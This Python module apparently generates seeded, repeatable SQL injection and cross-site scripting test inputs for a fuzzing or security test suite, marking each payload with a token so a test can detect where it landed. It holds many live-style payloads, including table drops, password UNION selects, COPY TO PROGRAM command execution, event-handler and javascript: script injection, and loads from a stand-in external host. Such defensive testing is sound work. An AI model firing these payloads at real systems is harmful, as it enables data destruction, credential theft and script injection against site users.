"""What an attacker might type, put together from parts by a seed, so that a run can be repeated word for word."""

from __future__ import annotations

import random
from itertools import product

TOKEN = "kq7x"  # in every payload, and in nothing else: wherever it turns up, a payload did
NAP = 20  # seconds that a payload asks the database to sleep

_OPENS = ("", "'", '"', "')", '")', "'))", "%'", "\\'", "`", "]", "1", "1)", "-1", "''", "%27", "%2527", "ʼ", "＇")
_OPENS += ("\x00'", "$$", "1e309 ", "0x27", "N'", "E'\\'", "(", "x' ", "me'", "open'", "2026-01-01'")
_MIDDLES = (
    " OR 1=1",
    " OR 'a'='a",
    " AND 1=0",
    f" AND nextval('{TOKEN}')>0",
    f" || nextval('{TOKEN}') || ",
    " UNION SELECT NULL,NULL,NULL",
    " UNION ALL SELECT password FROM access_account",
    "; DROP TABLE people_person",
    "; UPDATE people_person SET surname='x'",
    f"; SELECT pg_sleep({NAP})",
    f" OR pg_sleep({NAP}) IS NULL",
    " AND (SELECT count(*) FROM sqlite_master)>0",
    " AND randomblob(900000000) IS NULL",
    "; ATTACH DATABASE 'x' AS y",
    "; COPY people_person TO PROGRAM 'id'",
    " AND CAST((SELECT version()) AS int)=1",
    " ORDER BY 99",
    " LIMIT 1 OFFSET 1",
    " LIKE '%",
    " AND load_extension('x')",
    " COLLATE NOCASE",
    ")) OR EXISTS(SELECT 1 FROM history_change",
)
_ENDS = (
    f"--{TOKEN}",
    f"/*{TOKEN}*/",
    f" AND '{TOKEN}'='{TOKEN}",
    f";--{TOKEN}",
    f"#{TOKEN}",
    f" {TOKEN}",
    f' AND "{TOKEN}"="{TOKEN}',
)
_ODD = (
    "9" * 30,
    "-1",
    "0",
    "9223372036854775808",
    "1.5",
    "1e5",
    "NaN",
    "٣",
    "²",
    "0000-00-00",
    "99999-12-31",
    "2026-02-30",
    "10000-01-01",
    "None",
    "true",
    "[]",
    "{}",
    "%",
    "_",
    "%s",
    "%(id)s",
    "{0}",
    "\\",
    "\x00",
    "\ud800",
    "\U0001f642",
    "a\r\nb",
    "\t",
    "(" * 60,
    "*" * 60,
    "A" * 9_000,
    "../../x",
    "null",
    "person__surname",
    "-pk",
    "?",
)
NAMES = (
    "{}__surname",
    "person__surname__startswith",
    "-{}",
    "{}__in",
    '{}" DESC',
    "{}'--",
    "order_by",
    "ordering",
    "sort",
    "o",
    "fields",
    "_filter",
    "_order",
    "{}[$ne]",
    "{}) OR 1=1--",
    "__class__",
    "_connector",
    "_negated",
    "annotate",
    "extra",
)


def sql(*, seed: int, many: int) -> list[str]:
    """`many` texts: odd values, and texts meant to break out of a question to the database."""
    made = ["".join(parts) for parts in product(_OPENS, _MIDDLES, _ENDS)]
    chance = random.Random(seed)
    chance.shuffle(made)
    chosen = [*_ODD, *made[: many - len(_ODD)]]
    chance.shuffle(chosen)
    return chosen


def names(*, seed: int) -> list[str]:
    """Names of parameters that might be taken for a column, an order or a filter."""
    broken = [each for each in sql(seed=seed, many=60) if TOKEN in each]
    return [each.format(TOKEN) for each in NAMES] + broken[:12]


_RUN = f"{TOKEN}(1)"  # the browser counts each call of this
# Each runs by itself, with nobody touching it: the tag, what makes it act, and the event.
_ACTS = (
    ("img", "src=x", "onerror"),
    ("image", "src=x", "onerror"),
    ("svg", "id=x", "onload"),
    ("iframe", "src=x", "onload"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("details", "open", "ontoggle"),
    ("input", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("body", "id=x", "onload"),
    ("style", "id=x", "onload"),
    ("object", "data=x", "onerror"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("marquee", "loop=1", "onstart"),
)
_EVENTS = ("onfocus", "onload", "onerror", "onmouseover", "onanimationstart", "onclick")
_BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</option></select>", "-->", "]]>", "</style>", "`>")
_GAPS = (" ", "/", "\t", "\n", "\x0c")
_LINKS = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"//{TOKEN}.example/x",
    f"javascript://%0a{_RUN}",
)
_WHOLE = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src=data:,{_RUN}></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"＜script＞{_RUN}＜/script＞",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"'-{_RUN}-'",
    f'"-{_RUN}-"',
    f"\\'-{_RUN}//",
    f"${{{_RUN}}}",
    f"{{{{{_RUN}}}}}",
    "{{7*7}}" + TOKEN,
    f"{{% raw %}}{_RUN}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<template><script>{_RUN}</script></template>",
    f"<form><button formaction=javascript:{_RUN}>{TOKEN}",
    f"<base href=//{TOKEN}.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<link rel=stylesheet href=//{TOKEN}.example/x.css>",
    f"<style>@import '//{TOKEN}.example/x';</style>",
    f"<div style=width:expression({_RUN})>{TOKEN}</div>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<div hx-on:load={_RUN} hx-get=/ hx-trigger=load>{TOKEN}</div>",
    f"<div data-hx-on--load={_RUN} {TOKEN}>",
    f"<{TOKEN}>x</{TOKEN}>",
    f"<a {TOKEN} id=config name=config>",
)


def script(*, seed: int, many: int) -> list[str]:
    """`many` texts meant to run as script, or to become markup, wherever a page might put them."""
    made = [
        f"{broken}<{tag}{gap}{acting}{gap}{event}={quote}{_RUN}{quote}{gap}{TOKEN}>"
        for broken, (tag, acting, event), gap, quote in product(_BREAKS, _ACTS, _GAPS, ("", '"', "'"))
    ]
    quotes = product(('"', "'", "", "`"), _EVENTS, _GAPS)
    made += [f"x{quote}{gap}{event}={_RUN}{gap}autofocus{gap}{TOKEN}={quote}" for quote, event, gap in quotes]
    made += [f"<a {TOKEN} href={quote}{link}{quote}>x</a>" for link in _LINKS for quote in ('"', "'", "")]
    random.Random(seed).shuffle(made)
    chosen = [*_WHOLE, *_LINKS, *made[: many - len(_WHOLE) - len(_LINKS)]]
    random.Random(seed).shuffle(chosen)
    return chosen
